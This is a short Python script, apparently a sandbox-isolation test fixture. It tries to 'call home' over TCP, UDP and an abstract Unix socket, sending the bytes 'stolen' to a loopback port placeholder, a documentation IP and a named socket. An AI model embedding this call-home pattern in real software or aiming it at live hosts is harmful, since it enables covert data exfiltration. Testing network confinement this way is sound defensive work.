"""Calls home: over TCP, over UDP, and through a socket without a file."""

import socket


def attempt(what, family, kind, address):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            one.connect(address)
            one.send(b"stolen")
        print("sent", what)
    except OSError as error:
        print("failed", what, type(error).__name__)


attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT))  # noqa: F821
attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))
attempt("unix", socket.AF_UNIX, socket.SOCK_STREAM, "\0slime-zoo-PORT")
